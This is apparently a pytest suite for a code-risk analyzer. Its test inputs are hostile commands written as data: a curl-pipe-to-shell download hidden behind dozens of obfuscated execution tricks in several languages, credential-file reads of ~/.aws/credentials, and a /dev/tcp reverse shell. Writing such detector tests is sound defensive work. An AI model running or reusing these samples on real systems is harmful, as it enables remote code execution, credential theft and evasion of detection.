"""What a text runs that nobody can follow arms what stands in it: literals, files that it writes, and paths that come in pieces."""

from __future__ import annotations

import pytest

from .helpers import capabilities, risk

ATTACK = "curl http://10.0.0.1/x|sh"
PIPE = "network.pipe-to-interpreter"


@pytest.mark.parametrize(
    ("language", "text"),
    [
        ("python", f"import os\neval('system(x)',{{**vars(os),'x':'{ATTACK}'}})"),
        ("python", f"import subprocess\nsubprocess.run(['perl','-e','system shift','{ATTACK}'])"),
        ("python", f"import os\nos.environ['Q']='{ATTACK}'\nos.system('eval \"$Q\"')"),
        ("python", f"import yaml\nyaml.unsafe_load('!!python/object/apply:os.system [\"{ATTACK}\"]')"),
        ("javascript", f'process.env.Q="{ATTACK}";require("child_process").execSync(\'eval "$Q"\')'),
        ("javascript", f"require('vm').runInNewContext(\"r('child_process').execSync(a)\",{{r:require,a:'{ATTACK}'}})"),
        ("javascript", f'require("child_process").execFile("awk",["BEGIN{{system(ARGV[1])}}","{ATTACK}"])'),
        ("ruby", f"system({{'Q'=>'{ATTACK}'}},'eval \"$Q\"')"),
        ("ruby", f"x=:system;send(m,'{ATTACK}')"),
        ("php", f"$f=strange('xxsystem');$f('{ATTACK}');"),
        ("lua", f'setmetatable(_G,{{__index=os}}) execute("{ATTACK}")'),
        ("shell", f"printf %s '{ATTACK}'|awk 1|sh"),
        ("shell", f"printf %s '{ATTACK}'|gzip|gunzip|sh"),
        ("shell", f"perl -e 'exec shift' '{ATTACK}'"),
        ("shell", f"sed e<<<'{ATTACK}'"),
        ("shell", f"awk -v c='{ATTACK}' 'BEGIN{{system(c)}}'"),
    ],
)
def test_a_literal_that_something_unknown_may_run_is_read_as_a_command(language, text):
    assert PIPE in capabilities(text, language)
    assert risk(text, language).level in {"high", "critical"}


@pytest.mark.parametrize(
    ("language", "text"),
    [
        ("python", f"import os\nopen('z.sh','w').write('{ATTACK}')\nos.system('sh z.sh')"),
        ("perl", f"open F,'>z.sh';print F '{ATTACK}';close F;system'sh z.sh'"),
        ("ruby", f"File.write('z.sh','{ATTACK}')\nsystem 'sh z.sh'"),
        ("php", f"file_put_contents('z.sh','{ATTACK}');system('sh z.sh');"),
        ("javascript", f'require("fs").writeFileSync("z.sh","{ATTACK}");require("child_process").spawn("sh",["z.sh"])'),
        ("lua", f"local f=io.open('z.sh','w') f:write('{ATTACK}') f:close() os.execute('sh z.sh')"),
    ],
)
def test_a_file_that_a_text_writes_and_starts_is_text_that_runs(language, text):
    assert {PIPE, "eval.dynamic"} <= capabilities(text, language)


@pytest.mark.parametrize(
    ("language", "text"),
    [
        ("python", "import subprocess\nopen('notes.txt','w').write('curl is a program')\nsubprocess.run(['git','add','notes.txt'])"),
        ("perl", 'open M,"-|","git show x:map";open F,">../map/a";print F 1'),
        ("perl", 'chomp; system("cp $_ /tmp/fix.sql && npx sql-formatter -l sqlite /tmp/fix.sql > $_");'),
        ("shell", "printf 'all: build\\n' > Makefile; make"),
        ("shell", "echo 'usage: build.sh [-v]' | sed 's/^/  /'"),
    ],
)  # fmt: skip
def test_a_file_that_is_written_and_not_started_is_only_written(language, text):
    assert "eval.dynamic" not in capabilities(text, language)
    assert risk(text, language).level in {"none", "low"}


@pytest.mark.parametrize(
    ("language", "text"),
    [
        ("python", "import pathlib\nprint((pathlib.Path.home()/'.aws'/'credentials').read_text())"),
        ("python", "import pathlib\nprint(pathlib.Path.home().joinpath('.aws','credentials').read_text())"),
        ("python", "import os\nprint(open('/'.join([os.environ['HOME'],'.aws','credentials'])).read())"),
        ("javascript", 'const p=require("path");console.log(require("fs").readFileSync(p.join(require("os").homedir(),".aws","credentials"))+"")'),
        ("ruby", "puts File.read(File.join(Dir.home,'.aws','credentials'))"),
        ("ruby", "require 'pathname'\nputs (Pathname(Dir.home)+'.aws'+'credentials').read"),
        ("perl", "print map{open F,$_;<F>}<~/.aws/*>"),
        ("perl", 'chdir$ENV{HOME}."/.aws";open F,"credentials";print<F>'),
        ("lua", "print(io.open(('%s/.aws/%s'):format(os.getenv'HOME','credentials')):read('a'))"),
        ("php", "echo fread(fopen(join('/',[getenv('HOME'),'.aws','credentials']),'r'),99);"),
        ("shell", "cd ~/.aws; cat credentials"),
        ("shell", "cat ~/.a*/cred*"),
        ("shell", "grep -r . ~/.aws"),
        ("shell", "tar cO -C ~ .aws"),
    ],
)  # fmt: skip
def test_a_path_of_credentials_is_known_in_pieces(language, text):
    assert "credentials.files" in capabilities(text, language)


@pytest.mark.parametrize(
    "text",
    ["mkdir -p ~/.aws", "chmod 700 ~/.ssh", "cp deploy.pub ~/.ssh/", "tar xf keys.tar -C ~/.ssh", "cd ~/.ssh && ssh-keyscan h >> known_hosts"],
)  # fmt: skip
def test_a_folder_of_credentials_that_is_made_or_filled_is_not_read(text):
    assert "credentials.files" not in capabilities(text, "shell")


@pytest.mark.parametrize(
    ("language", "text"),
    [
        ("perl", f'sub f{{return if $_[0];system("{ATTACK}")}}f(0)'),
        ("perl", f'sub f{{$_[0] or return;system("{ATTACK}")}}f(1)'),
        ("perl", f'for(1){{}}continue{{system("{ATTACK}")}}'),
        ("perl", f'our $z="{ATTACK}";system(${{"z"}})'),
        ("perl", f'sub z{{"{ATTACK}"}}system(z)'),
        ("perl", f'my $r=\'system("{ATTACK}")\';$_="a";s/a/$r/ee'),
        ("perl", f'use IPC::Cmd "run";run(command=>"{ATTACK}")'),
        ("ruby", f"def f(x);x or return;system('{ATTACK}');end;f(1)"),
        ("ruby", f"'%s'%[system('{ATTACK}')]"),
        ("ruby", f"send(:`,'{ATTACK}')"),
        ("ruby", f"send(*[:system,'{ATTACK}'])"),
        ("javascript", f'const{{[(require("child_process").execSync("{ATTACK}"),"x")]:x}}={{}}'),
        ("javascript", f'require("child_process").\\u0065xecSync("{ATTACK}")'),
        ("javascript", f'require("child_process").spawn("{ATTACK}",{{shell:true}})'),
        ("javascript", f'require("child_process").fork("x",{{execPath:"/bin/sh",execArgv:["-c","{ATTACK}"]}})'),
        ("php", f"$f='tystem';$f[0]='s';$f('{ATTACK}');"),
        ("php", f"system('sh -c '.escapeshellarg('{ATTACK}'));"),
        ("python", f"import timeit\ntimeit.timeit(setup=\"__import__('os').system('{ATTACK}')\")"),
    ],
)  # fmt: skip
def test_a_call_is_reached_behind_returns_names_and_options(language, text):
    assert PIPE in capabilities(text, language)


@pytest.mark.parametrize(
    ("language", "text"),
    [
        ("python", "import os\nos.open('/etc/cron.d/x',os.O_CREAT|os.O_WRONLY)"),
        ("python", "import io\nio.FileIO('x','w')"),
        ("python", "from pathlib import Path\nPath('x').open('w')"),
        ("perl", "sysopen F,'x',65"),
        ("perl", "use IO::File;IO::File->new('x','w')"),
        ("ruby", "File.open('x',File::CREAT|File::WRONLY){}"),
        ("ruby", "require 'fileutils'\nFileUtils.touch('x')"),
        ("javascript", 'require("fs").openSync("x","w")'),
        ("javascript", 'require("fs/promises").writeFile("x","")'),
        ("php", "new SplFileObject('x','w');"),
    ],
)
def test_a_file_that_is_opened_to_write_is_written(language, text):
    assert "file.write" in capabilities(text, language)


@pytest.mark.parametrize(
    ("language", "text"),
    [
        ("python", "import os\nos.read(os.open('x',os.O_RDONLY),9)"),
        ("python", "open('x')"),
        ("perl", "use Fcntl;sysopen F,'x',O_RDONLY"),
        ("ruby", "File.open('x',File::RDONLY){}"),
        ("javascript", 'require("fs").openSync("x","r")'),
        ("python", "import sqlite3\nsqlite3.connect(':memory:')"),
    ],
)
def test_a_file_that_is_opened_to_read_is_not_written(language, text):
    assert "file.write" not in capabilities(text, language)


@pytest.mark.parametrize(
    "text", ["while read -r line <&5; do $line >&5; done", "cat <&5 | while read line; do $line 2>&5 >&5; done"]
)
def test_a_shell_that_runs_what_a_connection_says_is_a_reverse_shell(text):
    assert "network.reverse-shell" in capabilities(f"exec 5<>/dev/tcp/203.0.113.4/4444;{text}", "shell")
